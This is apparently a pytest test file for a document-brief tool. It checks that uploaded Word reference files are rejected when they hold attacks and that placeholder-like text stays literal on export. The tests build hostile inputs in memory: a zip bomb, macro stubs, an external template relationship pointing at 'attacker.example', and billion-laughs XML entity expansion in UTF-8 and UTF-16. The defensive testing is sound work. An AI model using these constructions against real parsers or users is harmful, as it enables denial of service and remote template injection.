"""A Word reference document is hostile input: each attack is built in
memory with zipfile and must be refused with one clear sentence before
python-docx sees it; an ordinary Word document must pass unchanged."""

from __future__ import annotations

import base64
import io
import json
import zipfile

import docx
import pytest

from briefer.templates import TemplateFileError, template_from_bytes
from briefer.templates.reference_docx import (
    MAX_COMPRESSED_BYTES,
    MAX_ENTRIES,
    ReferenceDocxError,
    load_reference_docx,
)


def plain_docx() -> bytes:
    buf = io.BytesIO()
    docx.Document().save(buf)
    return buf.getvalue()


def rebuild(
    source: bytes,
    *,
    replace: dict[str, bytes] | None = None,
    add: dict[str, bytes] | None = None,
    compression: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """``source`` with some parts replaced or added."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as zin, zipfile.ZipFile(out, "w", compression) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, replace.get(info.filename, zin.read(info)))
        for name, data in (add or {}).items():
            zout.writestr(name, data)
    return out.getvalue()


def refused(data: bytes) -> str:
    with pytest.raises(ReferenceDocxError) as caught:
        load_reference_docx(data)
    message = str(caught.value)
    assert "\n" not in message and message.endswith(".")
    return message


def test_an_ordinary_word_document_is_accepted_unchanged() -> None:
    data = plain_docx()
    assert load_reference_docx(data) == data


def test_not_a_zip_is_refused() -> None:
    assert "not a .docx" in refused(b"%PDF-1.7 this is not a zip")


def test_a_zip_without_word_parts_is_refused() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("hello.txt", "hi")
    assert "not a Word document" in refused(buf.getvalue())


def test_a_zip_bomb_is_refused() -> None:
    bomb = b"<a>" + b" " * (60 * 1024 * 1024) + b"</a>"  # 60 MB of XML, a few dozen KB zipped
    data = rebuild(plain_docx(), replace={"word/styles.xml": bomb})
    assert len(data) < 1024 * 1024
    assert "zip bomb" in refused(data)


def test_too_many_entries_are_refused() -> None:
    data = rebuild(plain_docx(), add={f"word/media/x{i}.txt": b"" for i in range(MAX_ENTRIES + 1)})
    assert "parts" in refused(data)


def test_a_file_over_the_size_limit_is_refused_without_opening_it() -> None:
    assert "MB" in refused(b"PK" + b"\0" * (MAX_COMPRESSED_BYTES + 1))


def test_macros_are_refused() -> None:
    data = rebuild(plain_docx(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})
    assert "macros" in refused(data)


def test_a_macro_enabled_content_type_is_refused() -> None:
    source = plain_docx()
    with zipfile.ZipFile(io.BytesIO(source)) as zf:
        types = zf.read("[Content_Types].xml")
    docm = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    assert docm != types
    assert "macro" in refused(rebuild(source, replace={"[Content_Types].xml": docm}))


def test_an_external_relationship_is_refused() -> None:
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
        b' Target="http://attacker.example/template.dotm" TargetMode="External"/>'
        b"</Relationships>"
    )
    data = rebuild(plain_docx(), add={"word/_rels/settings.xml.rels": rels})
    message = refused(data)
    assert "outside the file" in message and "attachedTemplate" in message


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_billion_laughs_in_styles_is_refused(encoding: str) -> None:
    laughs = (
        b'<?xml version="1.0"?>'
        b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
        + b"".join(
            f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
            for i in range(1, 10)
        )
        + b']><w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&lol9;</w:styles>'
    )
    if encoding == "utf-16":  # the bytes no longer contain b"<!DOCTYPE": the parser must catch it
        laughs = laughs.decode().replace('version="1.0"?>', 'version="1.0" encoding="UTF-16"?>').encode("utf-16")
    data = rebuild(plain_docx(), replace={"word/styles.xml": laughs})
    message = refused(data)
    assert "word/styles.xml" in message
    assert "DOCTYPE" in message or "not well-formed" in message


def test_malformed_xml_is_refused() -> None:
    data = rebuild(plain_docx(), replace={"word/styles.xml": b"<w:styles><unclosed></w:styles>"})
    assert "not well-formed XML" in refused(data)


def test_a_template_carrying_a_bad_reference_is_refused_with_the_field_path() -> None:
    bad = rebuild(plain_docx(), add={"word/vbaProject.bin": b"x"})
    doc = {
        "format": "briefer-template",
        "version": 1,
        "template": {"name": "evil", "layout": {"reference_docx": base64.b64encode(bad).decode()}},
    }
    with pytest.raises(TemplateFileError) as caught:
        template_from_bytes(json.dumps(doc).encode())
    assert "layout.reference_docx" in str(caught.value) and "macros" in str(caught.value)


def test_a_template_carrying_a_good_reference_round_trips() -> None:
    good = plain_docx()
    doc = {
        "format": "briefer-template",
        "version": 1,
        "template": {"name": "house", "layout": {"reference_docx": base64.b64encode(good).decode()}},
    }
    template = template_from_bytes(json.dumps(doc).encode())
    assert template.layout.reference_docx_bytes() == good


def test_not_base64_is_refused() -> None:
    doc = {"format": "briefer-template", "version": 1, "template": {"name": "x", "layout": {"reference_docx": "%%%"}}}
    with pytest.raises(TemplateFileError, match="base64"):
        template_from_bytes(json.dumps(doc).encode())


# --------------------------------------------------------------------------
# Templates carry data, never placeholders
# --------------------------------------------------------------------------


def test_template_text_that_looks_like_a_placeholder_stays_literal_in_both_exports() -> None:
    from pypdf import PdfReader

    from helpers.exporting import export_to
    from briefer.templates import Template

    # One asterisk per text: two would be *italic* markup, as the brief format says.
    template = Template(
        name="tricky",
        skeleton={
            "background": "{{ 7*7 }} and {% if true %}x{% endif %}",
            "purpose": "${7*7}",
            "sections": [{"title": "{{ config }}", "body": "{% for x in y %}"}],
        },
    )
    brief = template.new_brief("Placeholders")
    pdf, word = io.BytesIO(), io.BytesIO()
    export_to(brief, pdf, "pdf", template)
    export_to(brief, word, "docx", template)
    pdf_text = "".join(page.extract_text() for page in PdfReader(pdf).pages)
    word_text = "\n".join(p.text for p in docx.Document(word).paragraphs)
    for text in (pdf_text, word_text):
        for piece in ("{{ 7*7 }}", "{% if true %}x{% endif %}", "${7*7}", "{{ config }}", "{% for x in y %}"):
            assert piece in text
        assert "49" not in text


# --------------------------------------------------------------------------
# The Word export uses the reference document's styles
# --------------------------------------------------------------------------

DARK_RED = "8B0000"


def office_reference(*, german_ids: bool = False) -> bytes:
    """An office's document: Heading 1 20 pt dark red, Normal in Georgia,
    some text of its own and an author, no List Number style."""
    from docx.shared import Pt, RGBColor

    word = docx.Document()
    heading = word.styles["Heading 1"]
    heading.font.size = Pt(20)
    heading.font.color.rgb = RGBColor.from_string(DARK_RED)
    word.styles["Normal"].font.name = "Georgia"
    word.add_paragraph("Text of the office's own document")
    word.core_properties.author = "Office Template Author"
    word.settings.element.append(
        word.settings.element.makeelement("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}trackRevisions")
    )
    styles = word.styles.element
    for style in list(styles):
        if style.get("{http://schemas.openxmlformats.org/wordprocessingml/2006/main}styleId") == "ListNumber":
            styles.remove(style)
    buf = io.BytesIO()
    word.save(buf)
    data = buf.getvalue()
    if german_ids:  # Word in German stores Heading 1 as "berschrift1"
        data = rebuild(
            data,
            replace={
                "word/styles.xml": zipfile.ZipFile(io.BytesIO(data))
                .read("word/styles.xml")
                .replace(b'w:styleId="Heading1"', b'w:styleId="berschrift1"')
                .replace(b'w:val="Heading1"', b'w:val="berschrift1"')
            },
        )
    return data


@pytest.mark.parametrize("german_ids", [False, True])
def test_the_word_export_uses_the_reference_styles_and_keeps_every_text(german_ids: bool) -> None:
    from docx.shared import Pt

    from helpers.exporting import export_to
    from briefer.export.compose import compose
    from briefer.model import Brief
    from briefer.templates import Template

    reference = office_reference(german_ids=german_ids)
    template = Template(
        name="office",
        layout={"reference_docx": base64.b64encode(reference).decode(), "style_overrides": {"accent_color": "#123456"}},
    )
    brief = Brief(
        title="Kushner–Netanyahu",
        summary="Bottom line.",
        objectives=["First", "Second"],
        key_points=[{"point": "Disarmament first", "detail": "Detail"}],
        background="1. numbered\n2. list",
        prepared_by="Desk officer",
    )
    buf = io.BytesIO()
    export_to(brief, buf, "docx", template)
    word = docx.Document(io.BytesIO(buf.getvalue()))

    heading = word.styles["Heading 1"]
    assert heading.font.size == Pt(20)
    assert str(heading.font.color.rgb) == DARK_RED
    assert word.styles["Normal"].font.name == "Georgia"
    headings = [p for p in word.paragraphs if p.style.name == "Heading 1"]
    assert [p.text for p in headings][:1] == ["Summary"]

    text = "\n".join(p.text for p in word.paragraphs) + "\n".join(
        cell.text for table in word.tables for row in table.rows for cell in row.cells
    )
    for piece in compose(brief, template).iter_text():
        for line in piece.splitlines():
            assert line.strip() in text
    assert "Text of the office's own document" not in text
    assert word.core_properties.author == "Desk officer"
    assert "Office Template Author" not in buf.getvalue().decode("latin-1")
    assert word.settings.element.find(
        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}trackRevisions"
    ) is None
    # List Number was missing from the reference: it was filled in and numbers the lists.
    assert any(p.style.name == "List Number" for p in word.paragraphs)


def test_without_a_reference_the_house_style_is_used() -> None:
    from helpers.exporting import export_to
    from briefer.model import Brief
    from briefer.templates import Template

    template = Template(name="plain", layout={"style_overrides": {"heading_sizes": [17, 13, 11]}})
    buf = io.BytesIO()
    export_to(Brief(title="T", summary="S"), buf, "docx", template)
    assert docx.Document(buf).styles["Heading 1"].font.size.pt == 17
